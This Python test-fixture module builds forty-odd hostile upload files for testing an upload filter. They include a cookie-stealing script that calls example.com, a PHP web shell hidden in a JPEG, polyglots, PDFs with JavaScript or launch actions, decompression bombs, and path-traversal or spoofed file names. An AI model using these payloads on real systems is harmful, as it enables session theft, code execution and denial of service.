"""Forty files that no office, shop or register needs: made here, byte by byte.

Each has a name as it is sent and its bytes. None may be kept, wherever it is handed in.
"""

import zlib
from collections.abc import Mapping
from io import BytesIO
from struct import pack
from typing import Final
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image

from tests.factories.media import A_PDF, a_picture

MEGABYTE: Final = 1024 * 1024
_SCRIPT: Final = b"<script>fetch('https://example.com/'+document.cookie)</script>"
_EOF: Final = b"\n%%EOF\n"


def a_pdf_with(objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF with one object more, and perhaps more in its trailer."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        + objects
        + (b"\ntrailer<</Root 1 0 R" + trailer + b">>" + _EOF)
    )


def a_packed_pdf(objects: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    """A PDF whose objects lie packed in a stream."""
    packed = zlib.compress(objects, 9)
    head = b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter " + filters
    return a_pdf_with(head + b">>stream\n" + packed + b"\nendstream endobj")


def an_archive(name: str, content: bytes, around: bytes = b"") -> bytes:
    """A zip with one file in it, behind other bytes."""
    buffer = BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(name, content)
    return around + buffer.getvalue()


def nested_archives(depth: int = 6) -> bytes:
    """A zip in a zip in a zip, zeros at the bottom."""
    content = bytes(8 * MEGABYTE)
    for level in range(depth):
        content = an_archive(f"{level}.zip", content)
    return content


def a_workbook(sheet: bytes, strings: bytes = b"<sst/>") -> bytes:
    """What Excel would take for a workbook, with these parts."""
    buffer = BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("xl/workbook.xml", b"<workbook><sheets><sheet/></sheets></workbook>")
        archive.writestr("xl/sharedStrings.xml", strings)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    return buffer.getvalue()


def a_jpeg_that_claims(width: int, height: int) -> bytes:
    """A small JPEG whose header tells of a huge picture."""
    small = a_picture(16, 16)
    at = small.index(b"\xff\xc0") if b"\xff\xc0" in small else small.index(b"\xff\xc2")
    return small[: at + 5] + pack(">HH", height, width) + small[at + 9 :]


def a_png_that_claims(width: int, height: int) -> bytes:
    """A small PNG whose header tells of a huge picture."""
    good = a_picture(16, 16, form="PNG")
    header = b"IHDR" + pack(">II", width, height) + good[24:29]
    return good[:12] + header + pack(">I", zlib.crc32(header)) + good[33:]


def a_webp_that_claims(width: int, height: int) -> bytes:
    """A small WebP whose canvas is huge."""
    head = bytes([0x10, 0, 0, 0]) + pack("<I", width - 1)[:3] + pack("<I", height - 1)[:3]
    small = a_picture(16, 16, form="WEBP")[12:]
    body = b"WEBPVP8X" + pack("<I", 10) + head + small
    return b"RIFF" + pack("<I", len(body)) + body


def a_png_with_a_great_profile() -> bytes:
    """A PNG whose packed colour profile unpacks to 64 MB."""
    good = a_picture(16, 16, form="PNG")
    body = b"icc\0\0" + zlib.compress(bytes(64 * MEGABYTE), 9)
    name = b"iCCP"
    chunk = pack(">I", len(body)) + name + body + pack(">I", zlib.crc32(name + body))
    return good[:33] + chunk + good[33:]


def a_tiff() -> bytes:
    """A kind of picture that is not taken."""
    buffer = BytesIO()
    Image.new("RGB", (16, 16)).save(buffer, "TIFF")
    return buffer.getvalue()


_JPEG: Final = a_picture(80, 60)
_PNG: Final = a_picture(80, 60, form="PNG")

HOSTILE: Final[Mapping[str, tuple[str, bytes]]] = {
    # Of two kinds at once.
    "a PDF that is a page": ("giay.pdf", b"%PDF-1.4\n<html>" + _SCRIPT + A_PDF[9:]),
    "a PDF with an archive behind it": ("giay.pdf", an_archive("a.exe", b"MZ", A_PDF)),
    "a PDF with a page behind it": ("giay.pdf", A_PDF + b"\n" + _SCRIPT),
    "a GIF that is a program": ("anh.gif", b"GIF89a/*\x01\x00\x00\x00\x00*/=1;alert(1)//;"),
    "a JPEG with a program for servers": ("anh.jpg", _JPEG + b"<?php system($_GET['c']); ?>"),
    "a JPEG with a page in its comment": ("anh.jpg", a_picture(80, 60, comment=_SCRIPT)),
    "a PNG with an archive behind it": ("anh.png", an_archive("a.exe", b"MZ", _PNG)),
    "a drawing with a program": ("anh.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + _SCRIPT),
    # Documents that do something.
    "a PDF with a program": ("giay.pdf", a_pdf_with(b"3 0 obj<</S/JavaScript/JS(x)>>endobj")),
    "a PDF with a program by another spelling": (
        "giay.pdf",
        a_pdf_with(b"3 0 obj<</S/J#61va#53cript/JS(x)>>endobj"),
    ),
    "a PDF with a packed program": ("giay.pdf", a_packed_pdf(b"6 0 <</S/JavaScript/JS(x)>>")),
    "a PDF packed twice": ("giay.pdf", a_packed_pdf(b"x", b"[/ASCIIHexDecode/FlateDecode]")),
    "a PDF that starts a program": ("giay.pdf", a_pdf_with(b"3 0 obj<</S/Launch/F(c)>>endobj")),
    "a PDF with a file in it": (
        "giay.pdf",
        a_pdf_with(b"3 0 obj<</Type/EmbeddedFile>>stream\nMZ\nendstream endobj"),
    ),
    "a locked PDF": ("giay.pdf", a_pdf_with(b"", b"/Encrypt 9 0 R")),
    "a PDF that sends a form": ("giay.pdf", a_pdf_with(b"3 0 obj<</S/SubmitForm>>endobj")),
    "a PDF without an end": ("giay.pdf", A_PDF[:60]),
    # What unpacks to more than fits.
    "a PDF that unpacks to 64 MB": ("giay.pdf", a_packed_pdf(bytes(64 * MEGABYTE))),
    "a PNG of 900 million pixels": ("anh.png", a_png_that_claims(30_000, 30_000)),
    "a PNG as wide as it goes": ("anh.png", a_png_that_claims(2**31 - 1, 1)),
    "a JPEG of 4 thousand million pixels": ("anh.jpg", a_jpeg_that_claims(65_500, 65_500)),
    "a WebP of 268 million pixels": ("anh.webp", a_webp_that_claims(16_384, 16_384)),
    "a GIF of 4 thousand million pixels": ("anh.gif", b"GIF89a\xff\xff\xff\xff\x00\x00\x00;"),
    "a PNG with a great profile": ("anh.png", a_png_with_a_great_profile()),
    "a workbook of zeros": ("hang.xlsx", a_workbook(bytes(64 * MEGABYTE))),
    "a workbook of strings": (
        "hang.xlsx",
        a_workbook(b"<worksheet/>", b"<sst>" + b"<si><t>a</t></si>" * 2_000_000),
    ),
    "archives in archives": ("hang.xlsx", nested_archives()),
    # Something else than the name says.
    "a program for Windows": ("anh.jpg", b"MZ\x90\x00" + bytes(200)),
    "a program for Linux": ("giay.pdf", b"\x7fELF\x02\x01\x01" + bytes(200)),
    "a page": ("anh.png", b"<!doctype html>" + _SCRIPT),
    "a picture of a kind not taken": ("anh.tif", a_tiff()),
    "a photo of a kind not taken": ("anh.heic", pack(">I", 24) + b"ftypheic" + bytes(64)),
    "a letter": ("thu.docx", an_archive("word/document.xml", b"<w:document/>")),
    "nothing": ("anh.jpg", b""),
    "one byte": ("anh.jpg", b"\xff"),
    "half a picture": ("anh.jpg", _JPEG[: len(_JPEG) // 2]),
    "zeros": ("anh.png", bytes(4096)),
    # Names that lead elsewhere, or are not what they look like; the bytes are good.
    "a way up": ("../../../etc/cron.d/anh.jpg", _JPEG),
    "a way down from the root": ("/etc/passwd", A_PDF),
    "a way on Windows": ("..\\..\\windows\\anh.jpg", _JPEG),
    "a slash in disguise": ("..\u2215..\u2215anh.jpg", _JPEG),
    "a name with a zero": ("anh.php\0.jpg", _JPEG),
    "a name read backwards": ("anh\u202egpj.exe", _JPEG),
    "a name without end": ("a" * 3000 + ".jpg", _JPEG),
    "a device": ("CON.jpg", _JPEG),
}
